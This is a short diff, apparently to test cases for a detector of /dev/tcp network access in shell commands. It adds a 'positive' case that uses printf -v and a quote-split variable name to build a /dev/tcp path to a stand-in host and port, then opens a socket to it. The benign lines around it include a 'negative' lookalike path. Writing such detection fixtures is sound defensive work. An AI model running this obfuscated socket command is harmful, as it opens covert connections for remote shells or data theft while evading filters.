@@ -21,3 +21,5 @@ cat /dev/urandom | head -c 16 > key
 echo done
 #@ neg a path that only looks alike
 ls /dev/tcpdump-captures
+#@ pos the /dev/tcp path printed into a quoted name by printf -v
+printf -v so''ck '/dev/%s/%s/%s' tcp 203.0.113.9 443; exec 3<>"$sock"
